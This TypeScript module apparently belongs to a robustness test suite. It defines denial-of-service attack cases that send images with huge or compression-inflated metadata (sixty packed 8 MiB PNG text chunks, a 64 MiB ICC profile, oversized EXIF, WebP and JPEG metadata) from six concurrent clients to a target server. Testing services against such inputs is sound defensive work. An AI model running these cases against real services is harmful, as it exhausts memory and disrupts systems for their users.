import type { Attack, AttackCase } from '../attack.js';
import { sendFrames } from '../clients/frame-client.js';
import { persistAll } from '../clients/persist.js';
import { loadedJpeg } from '../pictures/jpegs.js';
import { blackPng, rawChunk, swollenChunks } from '../pictures/pngs.js';
import { loadedWebp } from '../pictures/webps.js';

const MiB = 1024 * 1024;
const sixty = Array.from({ length: 60 });

/** Small pictures whose metadata is large, or becomes so when it is unpacked. */
function metadataAttack(name: string, payloads: NonNullable<Attack['payloads']>): Attack {
  return {
    name,
    payloads,
    async attack(target, signal) {
      const { payloads: pictures } = target;
      await persistAll(target, signal, () =>
        sendFrames(
          target,
          { address: target.address(), parameters: { width: 64, height: 64 }, pictures },
          signal,
        ),
      );
    },
  };
}

const packed = (kind: keyof typeof swollenChunks): (() => Promise<readonly Uint8Array[]>) => {
  return () => {
    const chunk = swollenChunks[kind](8 * MiB);
    return Promise.resolve([
      blackPng(
        64,
        64,
        sixty.map(() => chunk),
      ),
    ]);
  };
};

export const metadata = metadataAttack('png-ztxt', packed('zTXt'));

const plain = metadataAttack('metadata', async ({ message_bytes: limit }) => [
  blackPng(64, 64, [swollenChunks.iCCP(64 * MiB)]),
  blackPng(64, 64, [rawChunk('eXIf', limit - 64 * 1024)]),
  blackPng(
    64,
    64,
    sixty.map(() => rawChunk('tEXt', Math.floor(limit / 70))),
  ),
  loadedWebp(Math.floor(limit / 3) - 1024),
  await loadedJpeg(limit - 256 * 1024),
]);

export const metadataCases: readonly AttackCase[] = [
  ...[metadata, metadataAttack('png-itxt', packed('iTXt'))].map((attack) => ({
    name: attack.name,
    what: '6 clients, PNG of 60 packed text chunks of 8 MiB',
    parts: [{ attack, clients: 6 }],
    streams: 6,
  })),
  {
    name: plain.name,
    what: '6 clients, EXIF, XMP and profiles as large as messages',
    parts: [{ attack: plain, clients: 6 }],
    streams: 6,
  },
];
